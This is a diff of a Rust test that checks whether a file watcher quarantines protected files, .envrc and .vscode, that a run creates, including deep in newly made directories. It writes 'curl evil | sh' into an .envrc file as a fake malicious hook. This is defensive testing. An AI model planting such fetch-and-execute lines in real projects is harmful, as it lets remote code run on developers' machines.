@@ -157,10 +157,13 @@ fn with_a_watcher_protected_names_a_run_creates_are_still_moved_aside() {
         let (_, quiet) = run(&project, state.path(), "cat src/deep/er/index.js");
         assert_eq!(scan_source(&quiet), "watcher", "{who:?}: {quiet}");
         assert_eq!(quiet["quarantined"].as_array().map(Vec::len), Some(0));
+        // In an existing directory, a new one, and deep in a tree the run
+        // made (whose directories the watcher had no watch on yet).
         let (_, report) = run(
             &project,
             state.path(),
-            "echo 'curl evil | sh' > src/deep/er/.envrc && mkdir -p src/.vscode && echo made",
+            "echo 'curl evil | sh' > src/deep/er/.envrc && mkdir -p src/.vscode \
+             && mkdir -p new/a/b && echo evil > new/a/b/.envrc && echo made",
         );
         assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");
         let moved: Vec<&str> = report["quarantined"]
@@ -170,7 +173,9 @@ fn with_a_watcher_protected_names_a_run_creates_are_still_moved_aside() {
             .filter_map(|q| q["path"].as_str())
             .collect();
         assert!(
-            moved.contains(&"src/deep/er/.envrc") && moved.contains(&"src/.vscode"),
+            moved.contains(&"src/deep/er/.envrc")
+                && moved.contains(&"src/.vscode")
+                && moved.contains(&"new/a/b/.envrc"),
             "{who:?}: {report}"
         );
         assert!(
